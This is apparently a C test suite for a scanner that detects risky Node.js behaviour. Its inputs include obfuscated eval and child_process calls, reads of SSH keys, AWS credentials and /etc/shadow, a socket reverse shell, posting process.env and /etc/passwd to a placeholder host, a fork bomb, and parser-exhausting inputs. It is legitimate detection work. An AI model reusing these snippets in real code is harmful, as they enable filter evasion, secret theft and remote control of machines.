/* JavaScript for a scan: what programs do, told by resolved names, however they spell it. */
#include "scan_facts.h"
#include "scan_samples.h"

static void node(const char *text)
{
    facts_of_bytes(LANG_NODE, text, strlen(text));
}

TEST(modules_of_node_are_followed_however_they_are_loaded)
{
    static const char *const ways[] = {
        "require('child_process').exec('id')",
        "const {exec: run} = require('node:child_process'); run('id')",
        "import cp from 'child_process'; cp.exec('id')",
        "import * as cp from 'node:child_process'; cp.exec('id')",
        "import {exec as e} from 'child_process'; e('id')",
        "import('child_process').then(({exec}) => exec('id'))",
        "(await import(`child_process`)).exec('id')",
        "module.require('child_process').exec('id')",
        "process.mainModule.require('child_process').exec('id')",
        "import {createRequire} from 'module'; const r = createRequire(import.meta.url); r('child_process').exec('id')",
        "require('module')._load('child_process').exec('id')",
        "(function (r) { r('child_process').exec('id'); })(require)",
        "let cp; try { cp = require('child_process'); } catch (e) { cp = null; } cp.exec('id')",
    };
    for (size_t i = 0; i < ARRAY_LEN(ways); i++) {
        node(ways[i]);
        CHECK(facts_have("import child_process()"));
        CHECK(facts_have("call child_process.exec(id)"));
    }
}

TEST(names_of_node_in_pieces_are_put_together)
{
    static const char *const ways[] = { "globalThis['ev' + 'al']('x')",
                                        "(0, eval)('x')",
                                        "const e = eval; e('x')",
                                        "eval.call(null, 'x')",
                                        "Reflect.apply(eval, null, ['x'])",
                                        "globalThis['lave'.split('').reverse().join('')]('x')",
                                        "window[`ev${'al'}`]('x')",
                                        "global[atob('ZXZhbA==')]('x')",
                                        "globalThis[String.fromCharCode(101, 118, 97, 108)]('x')",
                                        "globalThis['\\x65\\u0076al']('x')",
                                        "globalThis['\\u{65}v\\141l']('x')",
                                        "const k = ['x', 'eval']; globalThis[k[1]]('x')",
                                        "Reflect.get(globalThis, 'eval')('x')",
                                        "globalThis[Buffer.from('6576616c', 'hex').toString()]('x')",
                                        "let n = 'ev'; n += 'al'; globalThis[n]('x')",
                                        "((n = 'eval') => globalThis[n]('x'))()",
                                        "const [a, n = 'eval'] = ['x']; globalThis[n](a)",
                                        "[['eval', 'x']].forEach(([f, a]) => globalThis[f](a))",
                                        "const o = {f: 'eval'}, {f} = {a: 1, ...o}; globalThis[f]('x')",
                                        "const f = process.argv[2] ?? 'eval'; globalThis[f]('x')" };
    for (size_t i = 0; i < ARRAY_LEN(ways); i++) {
        node(ways[i]);
        CHECK(facts_have("call eval(x)"));
    }
    char text[4096];
    (void)snprintf(text, sizeof text, "globalThis['%02000dlave'.split('').reverse().join('').slice(0, 4)]('x')", 0);
    node(text);
    CHECK(facts_have("call eval(x)"));
    node("f('\\u{1f600}\\u{110000}', unescape('%41%4'))");
    CHECK(facts_have("call f(\xf0\x9f\x98\x80, A%4)"));
}

TEST(functions_of_node_are_made_through_constructors)
{
    static const char *const ways[] = { "[].constructor.constructor('return 1')",
                                        "(() => {}).constructor('return 1')",
                                        "Function('return 1')",
                                        "new Function('return 1')",
                                        "(function () {}).constructor.call(null, 'return 1')",
                                        "Object.getPrototypeOf(async function () {}).constructor('return 1')" };
    for (size_t i = 0; i < ARRAY_LEN(ways); i++) {
        node(ways[i]);
        CHECK(facts_have("call Function(return 1)"));
    }
    node("Function('return process')().mainModule.require('child_process').execSync('id')");
    CHECK(facts_have("call child_process.execSync(id)"));
}

TEST(local_names_of_node_are_no_globals)
{
    node("function exec(x) { return x; } exec('rm -rf /'); const eval2 = (x) => x; eval2('1'); /a/.exec('b');");
    CHECK(!facts_mention("call exec("));
    CHECK(!facts_mention("child_process"));
    node("class A { eval(x) { return x; } } new A().eval('1');");
    CHECK(!facts_mention("call eval("));
    node("// eval('x')\n/* require('child_process') */\nconst s = \"eval('x')\";");
    CHECK(!facts_mention("call "));
    CHECK(!facts_mention("import "));
}

TEST(paths_of_node_are_folded)
{
    node("const fs = require('fs'), p = require('path'), os = require('os'); fs.readFileSync(p.join(os.homedir(), "
         "'.ssh', 'id_rsa'));");
    CHECK(facts_have("call fs.readFileSync(~/.ssh/id_rsa)"));
    node("require('fs/promises').readFile(`${process.env.HOME}/.aws/credentials`)");
    CHECK(facts_have("call fs.readFile(~/.aws/credentials)"));
    node("const {promises: f} = require('fs'); f.rm('/srv', {recursive: true, force: true})");
    CHECK(facts_have("call fs.rm(/srv, recursive=true,force=true)"));
    CHECK(facts_have("flow delete-tree(/srv)"));
    node("for (const f of ['a.txt', '/etc/shadow']) require('fs').readFileSync(f)");
    CHECK(facts_have("call fs.readFileSync(/etc/shadow)"));
}

TEST(flows_of_node_from_source_to_sink_are_seen)
{
    static const struct {
        const char *text, *flow;
    } cases[] = {
        { "eval(atob('eA=='))", "flow decode-then-exec(x)" },
        { "const b = Buffer.from('eA==', 'base64'); const t = b.toString(); new Function(t)()",
          "flow decode-then-exec(x)" },
        { "fetch('http://a').then(r => r.text()).then(t => eval(t))", "flow download-then-exec(?)" },
        { "require('https').get('https://a', r => { let d = ''; r.on('data', c => { d += c; }); r.on('end', () => "
          "eval(d)); })",
          "flow download-then-exec(?)" },
        { "const s = new (require('net').Socket)(), sh = require('child_process').spawn('sh'); s.connect(1, 'a'); "
          "s.pipe(sh.stdin); sh.stdout.pipe(s);",
          "flow reverse-shell()" },
        { "const n = require('net'); n.createServer(c => { const p = require('child_process').spawn('/bin/sh'); "
          "c.pipe(p.stdin); })",
          "flow reverse-shell()" },
        { "const d = require('fs').readFileSync('/etc/passwd'); fetch('http://a', {body: d})",
          "flow secret-then-send(http://a)" },
        { "fetch('http://a', {method: 'POST', body: JSON.stringify(process.env)})", "flow secret-then-send(http://a)" },
        { "console.log(process['env'])", "flow env-dump()" },
        { "while (true) require('child_process').fork(__filename)", "flow fork-loop()" },
        { "const a = []; for (;;) a.push(1)", "flow endless-alloc()" },
        { "while (1) {}", "flow endless-loop()" },
        { "globalThis[name]('x')", "flow computed-call(?)" },
        { "setTimeout('x()', 1)", "flow timer-code(x())" },
        { "const fs = require('fs'); function w(d) { fs.readdirSync(d).forEach(n => w(d + '/' + n)); } "
          "w(require('os').homedir())",
          "flow walk-outside()" },
    };
    for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
        node(cases[i].text);
        CHECK(facts_have(cases[i].flow));
    }
}

TEST(ordinary_node_makes_no_flows)
{
    static const char *const texts[] = { "while (true) { const x = q.shift(); if (!x) break; out.push(x); }",
                                         "const t = atob('aGk='); console.log(t)",
                                         "setTimeout(() => {}, 10)",
                                         "fetch('http://a').then(r => r.json()).then(d => console.log(d))",
                                         "const {PORT} = process.env; console.log(PORT)",
                                         "handlers[name](1)",
                                         "require('fs').rmSync(require('fs').mkdtempSync('x'), {recursive: true})",
                                         "for (const f of files) require('fs').unlinkSync('out/' + f)" };
    for (size_t i = 0; i < ARRAY_LEN(texts); i++) {
        node(texts[i]);
        if (facts_mention("flow "))
            (void)fprintf(stderr, "# %s\n%s", texts[i], facts_text);
        CHECK(!facts_mention("flow "));
    }
}

TEST(hostile_node_ends_and_is_cut)
{
    static char text[200000];
    size_t n = 0;
    for (; n < 60000; n++)
        text[n] = n % 2 ? '(' : '[';
    facts_of_bytes(LANG_NODE, text, n);
    n = 0;
    for (int i = 0; i < 600; i++)
        n += (size_t)snprintf(text + n, sizeof text - n, "'%c'+", 'a' + i % 26);
    n += (size_t)snprintf(text + n, sizeof text - n, "'z'; require('child_process').exec('id')");
    facts_of_bytes(LANG_NODE, text, n);
    CHECK(facts_cut); /* nested deeper than SCAN_MAX_DEPTH */
    CHECK(facts_have("call child_process.exec(id)"));
    n = (size_t)snprintf(text, sizeof text, "let x = 'aaaaaaaaaaaaaaaa';");
    for (int i = 0; i < 400; i++) /* 2^400 bytes, if anybody believed it */
        n += (size_t)snprintf(text + n, sizeof text - n, "x = x + x;");
    facts_of_bytes(LANG_NODE, text, n);
    n = 0;
    for (int i = 0; i < 8000; i++) /* one name in thousands of scopes */
        n += (size_t)snprintf(text + n, sizeof text - n, "function f(a){a()}");
    facts_of_bytes(LANG_NODE, text, n);
    facts_of_bytes(LANG_NODE, "", 0);
}

TEST(changed_node_programs_are_survived)
{
    facts_survive_changes(LANG_NODE,
                          "const {exec: e, ...rest} = require('child_' + 'process'); import a, {b as c} from 'x';\n"
                          "for (const f of ['a', `/etc/${x}`]) { e(f.split('').reverse().join('')); }\n"
                          "globalThis[Buffer.from('6576', 'hex').toString() + \"\\x61\\u006c\"](atob('eA==').slice(1, "
                          "-1).replace(/a/g, 'b'));\n"
                          "while (true) { new (require('net').Socket)().on('data', d => e.call(null, d)); } "
                          "[].constructor.constructor('return this')();\n",
                          4000);
}

TEST(risky_node_samples_are_found_and_ordinary_ones_are_not)
{
    struct sample_count risky = scan_samples(LANG_NODE, "tests/data/scan/node/risky", true);
    struct sample_count ordinary = scan_samples(LANG_NODE, "tests/data/scan/node/ordinary", false);
    CHECK(risky.files >= 40 && ordinary.files >= 40);
    CHECK_EQ(risky.found, risky.files);
    struct sample_count needs = scan_samples(LANG_NODE, "tests/data/scan/node/needs", false);
    CHECK(needs.files > 0 && needs.needs == needs.files && needs.found == 0);
    CHECK_EQ(ordinary.found, 0);
}
